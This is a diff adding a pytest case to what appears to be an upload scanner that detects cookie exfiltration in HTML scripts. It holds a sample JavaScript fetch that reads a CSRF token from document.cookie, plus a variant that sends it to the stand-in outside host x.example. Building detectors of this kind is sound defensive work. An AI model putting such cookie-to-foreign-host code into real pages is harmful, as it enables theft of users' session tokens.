@@ -233,6 +233,21 @@ def test_a_consent_banner_parsing_and_writing_its_cookie_beside_requests_is_no_e
     assert verdict(result.status, findings, POLICY) is Verdict.review
 
 
+def test_a_csrf_token_read_from_the_cookie_and_sent_to_the_pages_own_path_is_no_theft() -> None:
+    script = (
+        b"fetch('/api/orders',{method:'POST',headers:{'X-CSRF-Token':"
+        b"document.cookie.match(/csrftoken=([^;]+)/)[1]},body:JSON.stringify(order)})"
+    )
+    result, findings = scan(b"<html><body><script>" + script + b"</script></body></html>", "cart.html")
+    (f,) = findings
+    assert f.evidence["exfiltration_markers"] == {"fetch": 1, "document.cookie:to-own-paths": 1}
+    assert verdict(result.status, findings, POLICY) is Verdict.review
+    stolen = script.replace(b"'/api/orders'", b"'https://x.example/orders'")  # the same, to another host
+    assert _script_confidence(b"<html><body><script>" + stolen + b"</script></body></html>") == (
+        POLICY.upload_scanning.scripts.exfiltration_confidence
+    )
+
+
 @pytest.mark.parametrize(
     "script",
     [
